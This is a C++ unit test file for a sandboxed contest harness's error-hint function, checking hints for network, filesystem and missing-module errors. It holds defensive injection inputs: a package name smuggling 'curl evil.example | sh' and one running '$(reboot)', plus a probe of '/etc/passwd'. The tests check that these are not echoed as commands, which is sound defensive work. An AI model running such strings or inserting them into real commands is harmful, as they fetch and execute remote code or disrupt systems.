#include "harness/foundation/model/program_remedy.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace matchbench {
namespace {

using testing::EndsWith;
using testing::StartsWith;

TEST(ProgramRemedy, IsOfTheSandboxInTheWordsOfEveryLanguage) {
  for (const char* said : {"<urlopen error [Errno -3] Temporary failure in name resolution>",
                           "TypeError: fetch failed: getaddrinfo EAI_AGAIN example.org",
                           "dial udp 127.0.0.53:53: connect: network is unreachable",
                           "java.net.ConnectException: Network is unreachable",
                           "Error: connect ECONNREFUSED 127.0.0.1:8080",
                           "ConnectionRefusedError: [Errno 111] Connection refused"}) {
    EXPECT_EQ(program_remedy(said, "/p"),
              "matchmakers reach only what the contest grants them, such as grants: {network: "
              "['127.0.0.1:8080']}; a contest hands them a model with files: {weights: PATH}")
        << said;
  }
  EXPECT_EQ(program_remedy("EROFS: read-only file system, open '/p/cache'", "/p"),
            "matchmakers can write only in their scratch folder, which TMPDIR names");
  EXPECT_EQ(program_remedy("PermissionError: [Errno 1] Operation not permitted", "/p"),
            "matchmakers have no network without a grant and cannot start processes; use threads, "
            "at most "
            "options.max_threads");
}

TEST(ProgramRemedy, IsNoneForWhatIsTheAuthorsOwn) {
  EXPECT_EQ(program_remedy("KeyError: 'x' (mine.py:3)", "/p"), "");
}

TEST(ProgramRemedy, OfAModuleIsToCopyItOrToBringItsPackage) {
  EXPECT_EQ(program_remedy("ModuleNotFoundError: No module named 'frog'", "/p"),
            "if 'frog' is your own, copy it into /p and name its path from "
            "os.path.dirname(__file__); else list the package that has it in /p/requirements.txt "
            "and run 'matchbench plugin add /p --requirements /p/requirements.txt'");
  EXPECT_EQ(program_remedy("Error: Cannot find package 'nowhere' imported from x", "/p"),
            "run 'npm install nowhere' in /p");
}

// Whether such a file exists is not said: an entrant could ask for any file of the machine.
TEST(ProgramRemedy, OfAFileIsToCopyItAndIsTheSameForEveryFile) {
  const std::string remedy =
      program_remedy("[Errno 2] No such file or directory: '/etc/passwd'", "/p");
  EXPECT_THAT(remedy, StartsWith("matchmakers see only their own folder"));
  EXPECT_THAT(remedy, EndsWith("copy the file into /p and name it from the program's own place"));
  EXPECT_EQ(program_remedy("ENOENT: no such file or directory, open 'absent'", "/p"), remedy);
}

TEST(ProgramRemedy, HasNoCommandOfTheProgramsOwn) {
  EXPECT_EQ(program_remedy("Cannot find package 'x; curl evil.example | sh #'", "/p"), "");
  EXPECT_EQ(program_remedy("Cannot find module '$(reboot)'", "/p"), "");
}

}  // namespace
}  // namespace matchbench
